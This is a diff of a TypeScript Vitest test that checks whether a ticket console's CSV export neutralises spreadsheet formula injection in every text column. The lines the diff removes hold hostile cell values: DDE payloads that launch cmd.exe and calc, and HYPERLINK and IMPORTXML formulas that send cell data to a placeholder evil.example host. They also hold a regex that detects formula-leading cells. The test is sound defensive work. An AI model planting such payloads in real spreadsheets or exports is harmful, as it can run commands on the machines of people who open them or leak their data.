@@ -1,44 +1,9 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { unguard } from '../../src-main/platform/csv.ts';
 import { exportAll, parsedTwice } from '../builders/exported.ts';
+import { formulas, wouldRun } from '../builders/formulas.ts';
 import { fillTickets, makeTickets, type TicketColumns } from '../builders/tickets.ts';
 import { makeFolder, openTestConsole, removeFolder, type TestConsole } from '../builders/workspace.ts';
-
-const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
-/** What a spreadsheet or an importer drops before it looks for a formula. */
-const leads = [
-  '',
-  '\uFEFF',
-  ' ',
-  '\u00A0',
-  '\u3000',
-  '\u200B',
-  '\u202E',
-  '"',
-  "'",
-  "''",
-  ' "',
-  '\uFEFF "',
-  "'\uFEFF",
-];
-const bodies = [
-  '1+1',
-  "cmd|' /C calc'!A0",
-  'MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!""',
-  'HYPERLINK("http://evil.example/?"&A1,"go")',
-  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
-  'SUM(1;2)',
-  'a,b;c|d\te\r\nf',
-  '',
-];
-const corpus = starts.flatMap((start) =>
-  leads.flatMap((lead) => bodies.map((body) => `${lead}${start}${body}`)),
-);
-
-/** A spreadsheet drops marks, blanks and its own quotes in front, and runs what then begins like a formula. */
-function wouldRun(cell: string): boolean {
-  return /^[\uFEFF\s\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell);
-}
 
 const text = ['key', 'subject', 'category', 'assignee', 'requester', 'channel', 'product'] as const;
 const columns = ['id', ...text, 'createdAt', 'version'];
@@ -48,11 +13,11 @@ let app: TestConsole;
 beforeEach(async () => {
   folder = makeFolder();
   const hostile = (id: number): Partial<TicketColumns> => {
-    const cell = corpus[id - 1] ?? '';
+    const cell = formulas[id - 1] ?? '';
     const rest = { category: cell, assignee: cell, requester: cell, channel: cell, product: cell };
     return { external_id: `${cell}${id}`, subject: cell, ...rest, created_at: -id };
   };
-  fillTickets(folder, makeTickets(corpus.length, hostile));
+  fillTickets(folder, makeTickets(formulas.length, hostile));
   app = await openTestConsole(folder);
 });
 afterEach(async () => {
@@ -60,14 +25,14 @@ afterEach(async () => {
   removeFolder(folder);
 });
 
-describe(`${corpus.length} cells that a spreadsheet would run, in every column of text`, () => {
+describe(`${formulas.length} cells that a spreadsheet would run, in every column of text`, () => {
   it('are all neutralised, nothing moves, numbers stay numbers, and all can be taken back', async () => {
-    expect(corpus.length).toBeGreaterThanOrEqual(200);
+    expect(formulas.length).toBeGreaterThanOrEqual(200);
     const [header, ...rows] = parsedTwice(await exportAll(app, columns));
     expect(header).toEqual(columns);
-    expect(rows).toHaveLength(corpus.length);
+    expect(rows).toHaveLength(formulas.length);
     for (const [at, row] of rows.entries()) {
-      const cell = (corpus[at] ?? '').replaceAll('\0', '\uFFFD');
+      const cell = (formulas[at] ?? '').replaceAll('\0', '\uFFFD');
       expect(row).toHaveLength(columns.length);
       const [id, key, ...others] = row;
       expect([id, others.at(-1)]).toEqual([String(at + 1), '1']);
